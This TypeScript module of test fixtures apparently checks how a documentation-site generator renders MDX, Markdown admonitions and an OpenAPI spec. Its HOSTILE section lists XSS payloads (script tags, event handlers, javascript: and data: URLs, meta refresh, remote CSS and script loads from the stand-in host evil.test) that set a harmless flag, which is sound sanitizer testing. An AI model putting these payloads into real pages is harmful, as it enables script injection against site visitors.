/** A GIF of one pixel, all of whose bytes are ASCII. */
export const PICTURE =
  'GIF89a\u0001\0\u0001\0\0\0\0,\0\0\0\0\u0001\0\u0001\0\0\u0002\u0002D\u0001\0;';

/** What the common generators have. */
export const COMPONENTS: Record<string, string> = {
  'docs/components.mdx': `---
title: Components
---

import OrderForm from './order-form';
import Quota from '/snippets/quota.mdx';
export const answer = 42;

<Note>Take care.</Note>

<Warning title="Mind the gap">
  It is wide.
</Warning>

<CardGroup cols={2}>
  <Card title="Send a parcel" href="/deliveries">By rocket.</Card>
  <Card title={\`A plain one\`}>No link.</Card>
</CardGroup>

<Tabs>
  <Tab title="JavaScript">

\`\`\`bash
npm install acme
\`\`\`

  </Tab>
  <Tab title="Python">

\`\`\`bash
pip install acme
\`\`\`

  </Tab>
</Tabs>

<Steps>
  <Step title="Weigh it">On a scale.</Step>
  <Step title="Send it">By rocket.</Step>
</Steps>

<Accordion title="Where is it made?">On the moon.</Accordion>

<details>
<summary>Who flies it? :rocket:</summary>

Nobody.

</details>

<ParamField path="parcel_id" type="string" required>The parcel.</ParamField>

<OrderForm onSubmit={() => fetch('https://evil.test')}>Inside an unknown one.</OrderForm>

<PlanTable title="Plans of Acme" description="What each of them costs." />

<Quota animal="zebrafish" />

<Tabs items={['macOS', 'Linux']}>
  <Tab>On a Mac.</Tab>
  <Tab>On a penguin.</Tab>
</Tabs>

Copyright {new Date().getFullYear()}
`,
  'docs/snippets/quota.mdx': '## Quotas\n\nThe quota of {animal} is nine.\n',
  'docs/boxes.md': `---
title: Boxes
---

:::tip[Docusaurus]
A tip.
:::

::: warning VitePress
A warning.
:::

!!! note "MkDocs"
    A note.

    Its second paragraph.

\`\`\`{note} MyST
A note.
\`\`\`

> [!IMPORTANT]
> From GitHub.

??? question "Folded away"
    Not any more.

- [x] done
- [ ] not done

It is 10:30, at host:port.
`,
};

/** Payloads; each of them would set \`ran\` or ask another host. */
export const HOSTILE: Record<string, string> = {
  'docs/hostile.md': `---
title: "<img src=x onerror='ran=1'>"
description: "<script>ran=1</script>"
---

<script>ran = 1</script>
<script src="//evil.test/x.js"></script>
<img src=x onerror="ran=1"> <img src="https://evil.test/pixel.png" alt="pixel">
<svg onload="ran=1"><script>ran=1</script></svg>
<iframe src="javascript:ran=1"></iframe>
<iframe srcdoc="<script>top.ran=1</script>"></iframe>
<object data="javascript:ran=1"></object>
<form action="https://evil.test"><button formaction="javascript:ran=1">Send</button></form>
<style>@import url(https://evil.test/x.css); body { background: url(https://evil.test/bg) }</style>
<div style="background:url(https://evil.test/bg)" onclick="ran=1" onmouseover="ran=1">Click here</div>
<link rel="stylesheet" href="https://evil.test/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.test">
<base href="https://evil.test/">

[Click here](javascript:ran=1) [two](java&#115;cript:ran=1) [three](data:text/html,<script>ran=1</script>)
<a href="&#106avascript:ran=1">four</a> <a href="vbscript:ran=1">five</a>
<a href="\u0001javascript:ran=1">six</a>

![image](https://evil.test/pixel.png) ![data](data:image/svg+xml,<svg/onload=ran=1>)
![svg](images/evil.svg)

<div title='

<div title="'><script>ran=1</script>">x</div>

<Card title="<script>ran=1</script>" href="javascript:ran=1" onClick="ran=1">Card</Card>

:::note[<img src=x onerror=ran=1>]
<script>ran=1</script>
:::

\`\`\`html title="<img src=x onerror=ran=1>"
<script>ran = 1</script>
\`\`\`

The end of it.
`,
  'docs/hostile-mdx.mdx': `---
title: MDX
---

import evil from 'https://evil.test/x.js';
export const ran = (() => { globalThis.ran = 1; })();

{(globalThis.ran = 1)}

<Card title={(globalThis.ran = 1)} onClick={() => (globalThis.ran = 1)} href={'javascript:ran=1'}>
  Click here
</Card>

<a href="javascript:ran=1" onClick={() => (globalThis.ran = 1)}>Click here</a>

<img src="https://evil.test/pixel.png" onError={() => (globalThis.ran = 1)} />

<script>{\`globalThis.ran = 1\`}</script>

<div dangerouslySetInnerHTML={{ __html: '<img src=x onerror=ran=1>' }} {...{ onClick: 'x' }} />

<constructor>A name of every object.</constructor>

<toString>Another.</toString>

The end of it.
`,
};

const EVIL = '<script>ran=1</script><img src=x onerror="ran=1"> [a](javascript:ran=1)';
/** An API description that is a part of the site. */
export const API = JSON.stringify({
  openapi: '3.1.0',
  servers: [{ url: 'https://api.acme.test/' }],
  paths: {
    '/parcels/{id}': {
      get: {
        summary: 'Get a parcel',
        tags: ['Parcels'],
        description: `The bilby. ${EVIL}`,
        parameters: [
          { name: 'id', in: 'path', required: true, schema: { type: 'string', maxLength: 9 } },
          { name: EVIL, in: 'query', description: EVIL },
        ],
        responses: { 200: { description: EVIL } },
      },
    },
    '/parcels': { post: { summary: 'Send a parcel', tags: ['Parcels'], responses: {} } },
  },
});
